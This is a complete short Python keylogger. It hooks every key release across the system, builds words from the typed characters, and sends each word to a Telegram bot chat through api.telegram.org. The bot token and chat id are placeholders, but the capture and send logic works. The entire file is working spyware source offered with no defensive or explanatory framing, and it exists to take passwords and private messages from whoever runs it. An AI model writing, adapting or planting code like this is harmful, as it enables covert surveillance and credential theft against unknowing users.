import keyboard
import requests


class Typing:
    api = "https://api.telegram.org/bot{}/{}"

    def __init__(self, token="000:inert", chat=0):
        self.url = self.api.format(token, "sendMessage")
        self.chat, self.word = chat, ""

    def __call__(self, event):
        if event.name in ("space", "enter"):
            requests.get(self.url, params={"chat_id": self.chat, "text": self.word})
            self.word = ""
        elif len(event.name) == 1:
            self.word += event.name


keyboard.on_release(callback=Typing())
keyboard.wait()
